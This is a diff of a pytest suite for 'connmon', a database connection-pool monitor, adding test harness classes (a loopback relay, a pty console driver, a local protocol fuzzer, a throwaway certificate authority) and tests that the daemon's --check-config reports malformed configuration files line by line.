@@ -8,6 +8,8 @@ Run with ``python -m pytest -v test_connmon.py`` (see README.txt).
 from __future__ import annotations
 
 import configparser
+import curses
+import fcntl
 import functools
 import gc
 import importlib
@@ -21,8 +23,10 @@ import re
 import select
 import signal
 import socket
+import struct
 import subprocess
 import sys
+import termios
 import textwrap
 import threading
 import time
@@ -35,6 +39,20 @@ import pytest
 
 import connmon
 import connmon_console
+import connmon_server
+
+
+# ===========================================================================
+# Harness
+#
+# What every test stands on: the port picker, bounded waits, the
+# missing-service helpers (a skip on a laptop, a failure in CI), a real
+# connmond (Daemon, SecureDaemon with its CertificateAuthority), real
+# applications (App, SyntheticApp, Thrower, Script) driven over pipes, the
+# Relay that sees the wire, readers of the exports, and a real terminal
+# (Terminal) for the console.
+# ===========================================================================
+
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 # Subprocesses import connmon from this checkout, whatever is installed.
@@ -47,11 +65,6 @@ MYSQL_URL = os.environ.get("CONNMON_TEST_MYSQL",
 POSTGRESQL_URL = os.environ.get(
     "CONNMON_TEST_POSTGRESQL",
     "postgresql+psycopg2://postgres@127.0.0.1:5432/test")
-
-
-# ---------------------------------------------------------------------------
-# Harness
-# ---------------------------------------------------------------------------
 
 
 def wait_until(check: Callable[[], Any], timeout: float = 15.0,
@@ -432,15 +445,513 @@ def monitored(url: str, daemon: Daemon, form: str = "dialect") -> str:
             hide_password=False)
 
 
-# ---------------------------------------------------------------------------
-# Configuration
-# ---------------------------------------------------------------------------
-
-
 def write(tmp_path, text: str):
     path = tmp_path / "connmon.cfg"
     path.write_text(textwrap.dedent(text))
     return str(path)
+
+
+class Relay(threading.Thread):
+    """A loopback TCP relay that records every byte clients send; it can
+    cut what it carries and refuse more for a while (a network cut)."""
+
+    def __init__(self, target_port: int, port: int = 0):
+        super().__init__(daemon=True)
+        self.listener = socket.create_server(("127.0.0.1", port))
+        self.port = self.listener.getsockname()[1]
+        self.target_port = target_port
+        self.received = bytearray()
+        self.lock = threading.Lock()
+        self.carried: List[socket.socket] = []
+        self.is_cut = False
+        self.start()
+
+    def cut(self, cut: bool = True) -> None:
+        """Cut every connection and refuse new ones (or, with False, let
+        them through again)."""
+        with self.lock:
+            self.is_cut = cut
+            for sock in self.carried if cut else ():
+                try:
+                    sock.shutdown(socket.SHUT_RDWR)
+                except OSError:
+                    pass
+
+    def run(self) -> None:
+        while True:
+            try:
+                client, _ = self.listener.accept()
+            except OSError:
+                return
+            with self.lock:
+                if self.is_cut:
+                    client.close()
+                    continue
+            try:
+                upstream = socket.create_connection(("127.0.0.1",
+                                                     self.target_port))
+            except OSError:   # the target is not up (yet)
+                client.close()
+                continue
+            with self.lock:
+                self.carried += [client, upstream]
+            for src, dst, record in ((client, upstream, True),
+                                     (upstream, client, False)):
+                threading.Thread(target=self.pump, args=(src, dst, record),
+                                 daemon=True).start()
+
+    def pump(self, src, dst, record: bool) -> None:
+        try:
+            while True:
+                data = src.recv(65536)
+                if not data:
+                    break
+                if record:
+                    with self.lock:
+                        self.received += data
+                dst.sendall(data)
+        except OSError:
+            pass
+        finally:
+            for sock in (src, dst):
+                try:
+                    sock.shutdown(socket.SHUT_RDWR)
+                except OSError:
+                    pass
+
+    def close(self) -> None:
+        self.listener.close()
+
+
+def run_connmond(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "connmon_server", *args],
+                          cwd=HERE, env=CHILD_ENV, capture_output=True,
+                          text=True, timeout=30)
+
+
+def located(message: str) -> str:
+    """A config mistake as --check-config lists it: "[SECTION], line N:
+    problem" becomes ":N: [SECTION] problem"."""
+    found = re.fullmatch(r"(?:\[(.*?)\], )?line (\d+): (.*)", message,
+                         re.S)
+    section = f" [{found[1]}]" if found[1] else ""
+    return f":{found[2]}:{section} {found[3]}"
+
+
+def http_get(port: int, path: str):
+    import urllib.error
+    import urllib.request
+    try:
+        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}",
+                                    timeout=10) as reply:
+            return reply.status, reply.headers, reply.read().decode()
+    except urllib.error.HTTPError as err:
+        return err.code, err.headers, err.read().decode()
+
+
+def metric_samples(text: str) -> Dict[tuple, float]:
+    """{(sample name, hostname, progname): value} of a /metrics page."""
+    from prometheus_client.parser import text_string_to_metric_families
+    samples = {}
+    for family in text_string_to_metric_families(text):
+        for sample in family.samples:
+            key = (sample.name, sample.labels["hostname"],
+                   sample.labels["progname"])
+            assert key not in samples, key
+            samples[key] = sample.value
+    return samples
+
+
+def expected_samples(snapshot: Dict[str, Any]) -> Dict[tuple, float]:
+    """What /metrics must say for a snapshot, by the table of metrics."""
+    return {(m.name, row["hostname"], row["progname"]): float(row[m.key])
+            for m in connmon_server.METRICS
+            for row in snapshot["rows"] if row.get(m.key) is not None}
+
+
+class SyntheticApp:
+    """An application process that speaks the real protocol by hand, so it
+    can claim any hostname."""
+
+    def __init__(self, daemon: Daemon, hostname: str, progname: str):
+        self.state = connmon.ProcessState(os.urandom(8).hex(), hostname,
+                                          progname, 4242, session=1)
+        self.sent: Optional[connmon.ProcessState] = None
+        self.conn = connmon.open_connection(
+            [("127.0.0.1", daemon.port)], "app", proc=self.state.describe())
+        self.send()
+
+    def send(self) -> None:
+        """The whole state the first time, then what changed."""
+        self.conn.send(self.state.message(time.monotonic(), self.sent))
+        self.sent = self.state.copy()
+        self.state.reset_counters()
+
+    def event(self, kind: str, conn: int, pool: Optional[int] = None
+              ) -> None:
+        """One pool event of ``kind`` (connmon.CONNECT...), as a listener
+        without checkout sites queues it."""
+        self.state.fold([(kind, conn, time.monotonic(), pool, None, None,
+                          None, None)])
+
+
+def csv_rows(path) -> List[Dict[str, str]]:
+    import csv
+    with open(path, newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def sqlite_url(tmp_path, daemon: Daemon, name: str = "db") -> str:
+    return (f"sqlite+pysqlite_connmon:///{tmp_path}/{name}.sqlite"
+            f"?connmon_addr={daemon.address}")
+
+
+def _controlling_tty() -> None:
+    """In the console's child: make the pty its controlling terminal, so
+    that the kernel sends it SIGWINCH on a resize, as a real terminal."""
+    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
+
+
+def xterm_screen(cols: int, lines: int):
+    """A pyte screen and stream that also know the three xterm sequences
+    ncurses uses for xterm-256color and pyte lacks: REP (repeat the last
+    character), SU and SD (scroll the region up / down)."""
+    import pyte
+
+    class Screen(pyte.Screen):
+        last = " "
+
+        def draw(self, data: str) -> None:
+            super().draw(data)
+            self.last = data[-1:] or self.last
+
+        def repeat(self, count: int = 1, *_: Any, **__: Any) -> None:
+            self.draw(self.last * max(1, count))
+
+        def _scroll(self, count: int, row: int, step) -> None:
+            self.save_cursor()
+            self.cursor.y = row
+            for _ in range(max(1, count)):
+                step()
+            self.restore_cursor()
+
+        def scroll_up(self, count: int = 1, *_: Any, **__: Any) -> None:
+            bottom = (self.margins.bottom if self.margins
+                      else self.lines - 1)
+            self._scroll(count, bottom, self.index)
+
+        def scroll_down(self, count: int = 1, *_: Any, **__: Any) -> None:
+            top = self.margins.top if self.margins else 0
+            self._scroll(count, top, self.reverse_index)
+
+    class Stream(pyte.ByteStream):
+        csi = dict(pyte.ByteStream.csi, b="repeat", S="scroll_up",
+                   T="scroll_down")
+
+    screen = Screen(cols, lines)
+    return screen, Stream(screen)
+
+
+class Terminal:
+    """The real console in a real pseudo-terminal, seen through pyte."""
+
+    KEYS = ("kcuu1", "kcud1", "knp", "kpp", "khome", "kend", "kf1", "kf3",
+            "kf4", "kf5", "kf6", "kf10")
+
+    def __init__(self, tmp_path, *args: str, cols: int = 160,
+                 lines: int = 30, env: Optional[Dict[str, str]] = None):
+        self.master, self.slave = os.openpty()
+        curses.setupterm("xterm-256color", self.slave)
+        self.key = {name: curses.tigetstr(name) for name in self.KEYS}
+        self.screen, self.stream = xterm_screen(cols, lines)
+        self.resize(cols, lines)
+        self.log = tmp_path / f"console-{self.master}.log"
+        self.proc = subprocess.Popen(
+            [sys.executable, "-m", "connmon_console", *args], cwd=HERE,
+            env={**CHILD_ENV, "TERM": "xterm-256color", **(env or {})},
+            stdin=self.slave,
+            stdout=self.slave, stderr=open(self.log, "ab"),
+            start_new_session=True, preexec_fn=_controlling_tty)
+
+    def resize(self, cols: int, lines: int) -> None:
+        fcntl.ioctl(self.master, termios.TIOCSWINSZ,
+                    struct.pack("HHHH", lines, cols, 0, 0))
+        self.screen.resize(lines, cols)
+
+    def pump(self) -> None:
+        while select.select([self.master], [], [], 0)[0]:
+            try:
+                data = os.read(self.master, 1 << 16)
+            except OSError:   # the console closed the pty
+                return
+            if not data:
+                return
+            self.stream.feed(data)
+
+    @property
+    def display(self) -> List[str]:
+        self.pump()
+        return self.screen.display
+
+    @property
+    def text(self) -> str:
+        return "\n".join(self.display)
+
+    def wait_for(self, check: Callable[["Terminal"], Any], what: str,
+                 timeout: float = 20.0) -> Any:
+        try:
+            return wait_until(lambda: self.proc.poll() is None and check(
+                self), timeout, what)
+        except AssertionError as err:
+            raise AssertionError(f"{err}\nconsole exit status "
+                                 f"{self.proc.poll()}; screen:\n"
+                                 f"{self.text}\nlog:\n"
+                                 f"{self.log.read_text()}") from None
+
+    def wait_text(self, text: str, timeout: float = 20.0) -> None:
+        self.wait_for(lambda t: text in t.text, f"{text!r} on screen",
+                      timeout)
+
+    def press(self, keys: bytes) -> None:
+        os.write(self.master, keys)
+
+    def rows(self) -> Dict[str, tuple]:
+        """The table's rows on screen: progname -> (line number, fields).
+        (The default width shows every column; a narrower one, those
+        whose headings are on screen.)"""
+        self.pump()
+        found = {}
+        columns = len(self.screen.display[6].split())
+        for y, line in enumerate(self.screen.display):
+            fields = line.split()
+            if y >= 7 and columns > 2 and len(fields) == columns:
+                found[fields[1]] = (y, fields)
+        return found
+
+    def numbers(self, progname: str) -> List[str]:
+        """The numbers of a row, without their alarm markers; [] while it
+        is not on screen."""
+        row = self.rows().get(progname)
+        return [field.lstrip(connmon_console.ABOVE + connmon_console.LEAKED)
+                for field in row[1][2:]] if row else []
+
+    def colour(self, progname: str) -> str:
+        y, _ = self.rows()[progname]
+        return self.screen.buffer[y][0].fg
+
+    def order(self) -> List[str]:
+        return [name for name, _ in sorted(self.rows().items(),
+                                           key=lambda item: item[1][0])]
+
+    def lflag(self) -> int:
+        return termios.tcgetattr(self.slave)[3]
+
+    def close(self) -> None:
+        if self.proc.poll() is None:
+            self.proc.kill()
+        self.proc.wait(10)
+        os.close(self.master)
+        os.close(self.slave)
+
+
+@pytest.fixture
+def terminal(tmp_path):
+    started: List[Terminal] = []
+
+    def start(*args: str, **options: Any) -> Terminal:
+        term = Terminal(tmp_path, *args, **options)
+        started.append(term)
+        return term
+
+    yield start
+    for term in started:
+        term.close()
+        assert "Traceback" not in term.log.read_text()
+
+
+SECRET = "hunter2-Sh4red-Secret"
+
+
+class SecureDaemon(Daemon):
+    """A Daemon whose own snapshots (wait_row, ...) connect like any client
+    of its service: with the secret and TLS of its config file."""
+
+    def snapshot(self, procs: bool = False) -> Dict[str, Any]:
+        service = connmon.find_service("test", str(self.config))
+        conn = connmon.open_connection(
+            [("127.0.0.1", self.port)], "console",
+            security=connmon.Security.of_service(service, console=True))
+        try:
+            return conn.request({"op": "snapshot", "procs": procs})
+        finally:
+            conn.close()
+
+
+def secret_file(tmp_path, name: str, secret: str = SECRET) -> str:
+    path = tmp_path / name
+    path.write_text(secret + "\n")
+    path.chmod(0o600)
+    return str(path)
+
+
+def console(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "connmon_console", "--once", "--json", *args],
+        cwd=HERE, env=CHILD_ENV, capture_output=True, text=True, timeout=30)
+
+
+def sqlite_app_url(tmp_path, query: str) -> str:
+    return f"sqlite:///{tmp_path}/hardening.sqlite?plugin=connmon&{query}"
+
+
+class CertificateAuthority:
+    """A certificate authority made for one test, with files on disk."""
+
+    def __init__(self, tmp_path, name: str):
+        import trustme
+        self.ca = trustme.CA()
+        self.dir = tmp_path / name
+        self.dir.mkdir()
+        self.cafile = str(self.dir / "ca.pem")
+        self.ca.cert_pem.write_to_path(self.cafile)
+
+    def issue(self, name: str, *identities: str) -> tuple:
+        """(certfile, keyfile) of a new leaf certificate."""
+        leaf = self.ca.issue_cert(*identities)
+        certfile, keyfile = (str(self.dir / f"{name}.pem"),
+                             str(self.dir / f"{name}.key"))
+        leaf.cert_chain_pems[0].write_to_path(certfile)
+        leaf.private_key_pem.write_to_path(keyfile)
+        return certfile, keyfile
+
+
+def client_config(tmp_path, daemon: Daemon, name: str, options: str) -> str:
+    """A config file naming the daemon's node, with the client's options."""
+    path = tmp_path / name
+    path.write_text(textwrap.dedent(f"""\
+        [connmon_service_test]
+        name: test
+        nodes:
+            node1 hostname=127.0.0.1:{daemon.port}
+        """) + options)
+    return str(path)
+
+
+class Thrower:
+    """Throws hostile inputs at a daemon and counts them.
+
+    Each input before the hello needs a connection of its own.  Inputs
+    after a valid hello go one at a time, each followed by a ping: the
+    pong says the daemon took the input and carries on, an error that it
+    refused it (and hung up; the thrower says hello again for the next).
+    """
+
+    def __init__(self, port: int):
+        self.port = port
+        self.thrown = 0
+        self.refused = 0
+        self.serial = 0
+
+    def connect(self) -> tuple:
+        sock = socket.create_connection(("127.0.0.1", self.port), 10)
+        sock.settimeout(10)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        rfile = sock.makefile("rb")
+        assert connmon.read_message(rfile)["op"] == "welcome"
+        return sock, rfile
+
+    def before_hello(self, data: bytes) -> None:
+        """Send ``data`` as the first bytes, then end the stream."""
+        sock, rfile = self.connect()
+        with sock:
+            try:
+                sock.sendall(data)
+                sock.shutdown(socket.SHUT_WR)
+                while rfile.read(65536):
+                    pass
+            except OSError:   # the daemon may hang up while we still talk
+                pass
+        self.thrown += 1
+
+    def hello(self, role: str) -> tuple:
+        sock, rfile = self.connect()
+        self.serial += 1
+        proc = {"id": f"fuzz-{self.serial}", "hostname": "fuzz-host",
+                "progname": "fuzz.py", "pid": self.serial, "session": 1}
+        sock.sendall(connmon.encode({"op": "hello", "version": 1,
+                                     "role": role, "proc": proc,
+                                     "service": "test", "node": "node2"}))
+        assert connmon.read_message(rfile) == {"op": "ready"}
+        if role == "app":
+            sock.sendall(connmon.encode({
+                "op": "state", "connect": [[1, 1], [2, 1]], "close": [],
+                "checkout": [[2, 0.5]], "checkin": [], "checkouts": 1,
+                "hold": [0, 0], "peak": [2, 1], "pools": [[1, 5]]}))
+        return sock, rfile
+
+    def after_hello(self, role: str, lines: List[bytes]) -> None:
+        """Send each line after a valid hello of ``role``."""
+        sock = rfile = None
+        try:
+            for line in lines:
+                if sock is None:
+                    sock, rfile = self.hello(role)
+                sock.sendall(line + connmon.encode({"op": "ping"}))
+                self.thrown += 1
+                while True:   # a console's request may have its own reply
+                    reply = connmon.read_message(rfile, 64 << 20)
+                    if reply is None or reply["op"] in ("pong", "error"):
+                        break
+                if reply is None or reply["op"] == "error":
+                    self.refused += 1
+                    sock.close()
+                    sock = None
+        finally:
+            if sock is not None:
+                sock.close()
+
+
+class Script:
+    """A small program of a test's own, run with this checkout's connmon
+    in a session of its own; it prints lines the test reads (bounded)."""
+
+    def __init__(self, tmp_path, name: str, source: str, *args: str,
+                 python: Tuple[str, ...] = ()):
+        path = tmp_path / name
+        path.write_text(source)
+        self.proc = subprocess.Popen(
+            [sys.executable, *python, str(path), *args], cwd=HERE,
+            env=CHILD_ENV, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+            text=True, start_new_session=True)
+        # (a reader thread: select() cannot see lines already buffered)
+        self.lines: "queue.Queue[str]" = queue.Queue()
+        threading.Thread(target=lambda: list(map(self.lines.put,
+                                                 self.proc.stdout)),
+                         daemon=True).start()
+
+    def send(self, line: str) -> None:
+        self.proc.stdin.write(line + "\n")
+        self.proc.stdin.flush()
+
+    def line(self, timeout: float = 60.0) -> List[str]:
+        try:
+            return self.lines.get(timeout=timeout).split()
+        except queue.Empty:
+            raise AssertionError(f"no line from the program in {timeout} s"
+                                 ) from None
+
+    def stop(self) -> None:
+        kill_group(self.proc)
+
+
+# ===========================================================================
+# Configuration
+#
+# The config file: the seed examples and the built-in default, every
+# malformed config named by file, section and line, addresses, service and
+# daemon options, and --check-config, which refuses what the daemon and the
+# applications would refuse.
+# ===========================================================================
 
 
 def test_config_seed_examples(tmp_path):
@@ -551,9 +1062,250 @@ def test_parse_address_rejects(text):
         connmon.parse_address(text)
 
 
-# ---------------------------------------------------------------------------
-# The plugin against real databases
-# ---------------------------------------------------------------------------
+@pytest.mark.parametrize("text, message", MALFORMED_CONFIGS)
+def test_check_config_catches_malformed_configs(tmp_path, text, message):
+    result = run_connmond("--check-config", "-c", write(tmp_path, text),
+                          "-s", "a")
+    assert result.returncode == 2
+    assert result.stderr.startswith("connmond: error: ")
+    assert located(message) in result.stderr
+    assert result.stdout == ""
+
+
+def test_check_config_says_ok_in_one_line(tmp_path):
+    path = write(tmp_path, """\
+        [connmon_service_a]
+        name: a
+        metrics_port: 9187
+        csv_dump: TMP/a.csv
+        csv_interval: 2.5
+        nodes:
+            n1 hostname=127.0.0.1:1 bind=127.0.0.1
+        """.replace("TMP", str(tmp_path)))
+    result = run_connmond("--check-config", "-c", path, "-s", "a")
+    assert (result.returncode, result.stderr) == (0, "")
+    assert result.stdout == (
+        f"connmond: config OK: {path} service 'a': node n1 listening on "
+        f"127.0.0.1:1, metrics on 127.0.0.1:9187, CSV to "
+        f"{tmp_path}/a.csv every 2.5s\n")
+
+
+@pytest.mark.parametrize("options, message", [
+    ("metrics_port: http", "metrics_port: expected a port number 1-65535, "
+     "got 'http'"),
+    ("metrics_port: 70000", "metrics_port: expected a port number"),
+    ("metrics_port: 9100\nmetrics_bind: 0.0.0.0:9100",
+     "metrics_bind: expected an address without a port (the port is "
+     "metrics_port), got '0.0.0.0:9100'"),
+    ("metrics_bind: 0.0.0.0", "metrics_bind is set but metrics_port is not"),
+    ("csv_dump: /tmp/x.csv\ncsv_interval: 0",
+     "csv_interval: expected a number of seconds above 0, got '0'"),
+    ("csv_dump: /tmp/x.csv\ncsv_interval: soon",
+     "csv_interval: expected a number of seconds above 0, got 'soon'"),
+    ("csv_dump: /tmp/x.csv\ncsv_columns: time, hostname, colour",
+     "csv_columns: unknown column colour (known: time, token, service, "
+     "node, hostname, progname,"),
+    ("csv_dump: /tmp/x.csv\ncsv_columns: conn conn",
+     "csv_columns: a column is listed twice in 'conn conn'"),
+    ("csv_token: run-7", "csv_token is set but csv_dump is not"),
+])
+def test_check_config_catches_bad_daemon_options(tmp_path, options, message):
+    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + options +
+                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
+    result = run_connmond("--check-config", "-c", path, "-s", "a")
+    assert result.returncode == 2
+    assert re.search(re.escape(f"connmond: error: {path}:") + r"\d+: " +
+                     re.escape(f"[connmon_service_a] {message}"),
+                     result.stderr), result.stderr
+
+
+def test_check_config_catches_bad_logging_sections(tmp_path):
+    path = write(tmp_path, """\
+        [connmon_service_a]
+        name: a
+        nodes:
+            n1 hostname=127.0.0.1:1
+        [loggers]
+        keys = root
+        [handlers]
+        keys = nowhere
+        [formatters]
+        keys =
+        [logger_root]
+        handlers = nowhere
+        """)
+    result = run_connmond("--check-config", "-c", path, "-s", "a")
+    assert result.returncode == 2
+    assert f"connmond: error: {path}: logging sections: KeyError" in (
+        result.stderr)
+    assert "handler_nowhere" in result.stderr
+
+
+def test_forget_gone_after_is_a_checked_daemon_option(tmp_path):
+    daemon = Daemon(tmp_path, extra_config="forget_gone_after: 1\n")
+    try:
+        SyntheticApp(daemon, "ctl1", "cron-job").conn.close()
+        wait_until(lambda: daemon.snapshot()["rows"], what="the row")
+        wait_until(lambda: not daemon.snapshot()["rows"],
+                   what="the gone row forgotten")
+    finally:
+        daemon.stop()
+
+
+# (option line, message, read by the applications too)
+CONFIG_MISTAKES = [
+    ("heartbeat_timeout: 0", "heartbeat_timeout: expected a number of "
+     "seconds from 1 to 3600, got '0'", False),
+    ("max_clients: -5", "max_clients: expected a whole number from 1 to "
+     "1048576, got '-5'", False),
+    ("forget_gone_after: 0", "forget_gone_after: expected a number of "
+     "seconds from 1 to", False),
+    ("hold_ms_warn: slow", "hold_ms_warn: expected a number of "
+     "milliseconds from 0.1 to", False),
+    ("metrics_prot: 9187", "unknown option 'metrics_prot' (did you mean "
+     "metrics_port?)", False),
+    ("hold_warn_seconds: abc", "hold_warn_seconds: expected a number of "
+     "seconds from 0.1 to 86400, got 'abc'", True),
+    ("hold_warn_seconds: 0", "hold_warn_seconds: expected a number of "
+     "seconds from 0.1 to 86400, got '0'", True),
+    ("checkout_sites: maybe", "checkout_sites: expected 1 (on) or 0 (off), "
+     "got 'maybe'", True),
+]
+
+
+@pytest.mark.parametrize("line, message, app_reads_it", CONFIG_MISTAKES)
+def test_check_config_refuses_each_mistake(tmp_path, line, message,
+                                           app_reads_it):
+    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + line +
+                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
+    result = run_connmond("--check-config", "-c", path, "-s", "a")
+    assert (result.returncode, result.stdout) == (2, "")
+    assert result.stderr.startswith(
+        f"connmond: error: {path}:3: [connmon_service_a] {message}")
+    assert len(result.stderr.splitlines()) == 1
+
+
+@pytest.mark.parametrize("line, message", [
+    (line, message) for line, message, app in CONFIG_MISTAKES if app])
+@pytest.mark.parametrize("form", ["sqlite+pysqlite_connmon://", "sqlite://"])
+def test_create_engine_refuses_each_mistake_it_reads(tmp_path, form, line,
+                                                     message):
+    """The applications read hold_warn_seconds and checkout_sites through
+    the same definitions --check-config uses: the same message."""
+    import sqlalchemy as sa
+    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + line +
+                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
+    url = f"{form}/?connmon_service=a&connmon_config={path}"
+    if form == "sqlite://":
+        url += "&plugin=connmon"
+    with pytest.raises(connmon.ConfigError) as err:
+        sa.create_engine(url)
+    assert str(err.value) == f"{path} [connmon_service_a]: {message}"
+
+
+@pytest.mark.parametrize("text, message", [
+    ("[connmon_service_a]\nname: a\nnodes\n    n1 hostname=h\n",
+     "[connmon_service_a], line 3: 'nodes' is not 'option: value' (no ':' "
+     "or '=')"),
+    ("[connmon_service_a\nname: a\n",
+     "line 1: section header '[connmon_service_a' has no closing ']'"),
+])
+def test_check_config_parse_errors_in_one_line(tmp_path, text, message):
+    path = write(tmp_path, text)
+    result = run_connmond("--check-config", "-c", path, "-s", "a")
+    assert result.returncode == 2
+    assert result.stderr == f"connmond: error: {path}{located(message)}\n"
+
+
+def test_unknown_service_names_the_source_read(tmp_path):
+    if os.path.exists(connmon.DEFAULT_CONFIG_FILE):
+        pytest.skip(f"{connmon.DEFAULT_CONFIG_FILE} exists on this machine")
+    result = run_connmond("--check-config", "-s", "nope")
+    assert result.stderr == ("connmond: error: <built-in default>: unknown "
+                             "service 'nope' (services: default)\n")
+    path = write(tmp_path, "[connmon_service_a]\nname: a\nnodes:\n"
+                 "    n1 hostname=h\n")
+    result = run_connmond("--check-config", "-c", path, "-s", "nope")
+    assert result.stderr == (f"connmond: error: {path}: unknown service "
+                             "'nope' (services: a)\n")
+    import sqlalchemy as sa
+    with pytest.raises(connmon.ConfigError, match="^<built-in default>: "
+                       "unknown service 'nope'"):
+        sa.create_engine("sqlite+pysqlite_connmon:///?connmon_service=nope")
+
+
+def test_parse_config_reads_every_service_and_refuses_other_sections():
+    """Several services in one text, each with its nodes (default port,
+    the wildcard bind of the address's family) and its other options; a
+    section that is neither a service nor logging's is a mistake, named
+    with the service likeliest meant."""
+    services = connmon.parse_config(textwrap.dedent("""\
+        [DEFAULT]
+        heartbeat_timeout: 7
+        [connmon_service_first]
+        name: nova
+        nodes:
+            a hostname=10.0.0.1
+            # a comment line between nodes
+            b hostname=[fd00::2]:5900 bind=[::1]
+        csv_dir: /var/lib/connmon
+        [connmon_service_second]
+        name: neutron
+        nodes: c hostname=localhost:6000 bind=127.0.0.1
+        """), "test.cfg")
+    assert sorted(services) == ["neutron", "nova"]
+    nova, neutron = services["nova"], services["neutron"]
+    assert [(n.name, n.address, n.bind) for n in nova.nodes] == [
+        ("a", ("10.0.0.1", 5800), ("0.0.0.0", 5800)),
+        ("b", ("fd00::2", 5900), ("::1", 5900))]
+    assert nova.options == {"csv_dir": "/var/lib/connmon",
+                            "heartbeat_timeout": "7"}
+    assert nova.source == "test.cfg [connmon_service_first]"
+    assert [(n.name, n.address, n.bind) for n in neutron.nodes] == [
+        ("c", ("localhost", 6000), ("127.0.0.1", 6000))]
+    assert nova.node("b").address == ("fd00::2", 5900)
+    with pytest.raises(connmon.ConfigError, match="has no node 'z'"):
+        nova.node("z")
+    with pytest.raises(connmon.ConfigError, match=r"test.cfg, \[connmon\], "
+                       r"line 1: unknown section: .* did you mean "
+                       r"\[connmon_service_default\]\?"):
+        connmon.parse_config("[connmon]\nname: nova\n", "test.cfg")
+
+
+NAME_CHARACTERS = "abcdefghijklmnopqrstuvwxyz0123456789-"
+
+
+@hypothesis.settings(max_examples=50, deadline=None)
+@hypothesis.given(nodes=st.lists(st.tuples(
+    st.text(NAME_CHARACTERS + "_", min_size=1, max_size=12),
+    st.text(NAME_CHARACTERS + ".", min_size=1, max_size=20).map(
+        lambda host: "h" + host),
+    st.integers(1, 65535), st.one_of(st.none(), st.integers(1, 65535))),
+    min_size=1, max_size=5, unique_by=lambda node: node[0]))
+def test_parse_config_nodes_as_written(nodes):
+    """Whatever the names, hosts and ports, each node line reads back as
+    written, in order."""
+    text = "[connmon_service_x]\nname: x\nnodes:\n" + "".join(
+        f"    {name} hostname={host}:{port}"
+        + (f" bind=127.0.0.1:{bind}" if bind else "") + "\n"
+        for name, host, port, bind in nodes)
+    (service,) = connmon.parse_config(text, "x.cfg").values()
+    assert [(n.name, n.address, n.bind) for n in service.nodes] == [
+        (name, (host, port), ("127.0.0.1", bind) if bind else
+         ("0.0.0.0", port)) for name, host, port, bind in nodes]
+
+
+# ===========================================================================
+# URLs and the plugin
+#
+# Both URL forms (a <driver>_connmon dialect name and ?plugin=connmon) on
+# real MariaDB, PostgreSQL and SQLite: the counts match the pool's and the
+# database's own whatever the engine does (dispose, detach, invalidate,
+# recycle, engines made and dropped); the connmon parameters reach neither
+# the driver nor the wire; the application keeps working whatever the daemon
+# does.
+# ===========================================================================
+
 
 BACKENDS = {
     "mysql-dialect": (MYSQL_URL, "dialect"),
@@ -796,36 +1548,6 @@ def test_invalidate_pre_ping_and_recycle(daemon, apps):
     assert row["maxconn"] == 1   # a recycled connection is closed, not added
 
 
-def test_forked_workers(daemon, apps):
-    require_database(MYSQL_URL)
-    app = apps(monitored(MYSQL_URL, daemon), "forking.py", pool_size=3,
-               max_overflow=0)
-    workers = app.fork(8)
-    held = {pid: i % 3 + 1 for i, pid in enumerate(workers)}
-    total = sum(held.values())
-    # The parent made the engine but never used it: it started no thread
-    # and is not a process of the program (see docs/configuration.txt, "Forked workers").
-    # Each worker announces its pool's capacity, 3.
-    row = daemon.wait_row("forking.py", procs=True, nproc=8, conn=total,
-                          ckout=total, limit=8 * 3)
-    by_pid = {p["pid"]: (p["conn"], p["ckout"], p["limit"], p["exhausted"])
-              for p in row["procs"]}
-    assert by_pid == {pid: (n, n, 3, n == 3) for pid, n in held.items()}
-    assert not row["exhausted"]
-
-    victim = workers[2]
-    os.kill(victim, signal.SIGKILL)
-    row = daemon.wait_row("forking.py", procs=True, nproc=7,
-                          conn=total - held[victim])
-    assert victim not in {p["pid"] for p in row["procs"]}
-
-    app.stop()   # the parent and all its workers
-    row = daemon.wait_row("forking.py", connected=False, nproc=0, conn=0,
-                          ckout=0)
-    assert (row["maxnproc"], row["maxconn"], row["maxckout"]) == (
-        8, total, total)
-
-
 def test_daemon_restart_converges_without_double_counting(tmp_path, apps):
     require_database(MYSQL_URL)
     daemon = Daemon(tmp_path)
@@ -898,78 +1620,6 @@ def test_sender_works_with_descriptors_numbered_above_1024(daemon,
     finally:
         app.kill()
         app.wait(10)
-
-
-class Relay(threading.Thread):
-    """A loopback TCP relay that records every byte clients send; it can
-    cut what it carries and refuse more for a while (a network cut)."""
-
-    def __init__(self, target_port: int, port: int = 0):
-        super().__init__(daemon=True)
-        self.listener = socket.create_server(("127.0.0.1", port))
-        self.port = self.listener.getsockname()[1]
-        self.target_port = target_port
-        self.received = bytearray()
-        self.lock = threading.Lock()
-        self.carried: List[socket.socket] = []
-        self.is_cut = False
-        self.start()
-
-    def cut(self, cut: bool = True) -> None:
-        """Cut every connection and refuse new ones (or, with False, let
-        them through again)."""
-        with self.lock:
-            self.is_cut = cut
-            for sock in self.carried if cut else ():
-                try:
-                    sock.shutdown(socket.SHUT_RDWR)
-                except OSError:
-                    pass
-
-    def run(self) -> None:
-        while True:
-            try:
-                client, _ = self.listener.accept()
-            except OSError:
-                return
-            with self.lock:
-                if self.is_cut:
-                    client.close()
-                    continue
-            try:
-                upstream = socket.create_connection(("127.0.0.1",
-                                                     self.target_port))
-            except OSError:   # the target is not up (yet)
-                client.close()
-                continue
-            with self.lock:
-                self.carried += [client, upstream]
-            for src, dst, record in ((client, upstream, True),
-                                     (upstream, client, False)):
-                threading.Thread(target=self.pump, args=(src, dst, record),
-                                 daemon=True).start()
-
-    def pump(self, src, dst, record: bool) -> None:
-        try:
-            while True:
-                data = src.recv(65536)
-                if not data:
-                    break
-                if record:
-                    with self.lock:
-                        self.received += data
-                dst.sendall(data)
-        except OSError:
-            pass
-        finally:
-            for sock in (src, dst):
-                try:
-                    sock.shutdown(socket.SHUT_RDWR)
-                except OSError:
-                    pass
-
-    def close(self) -> None:
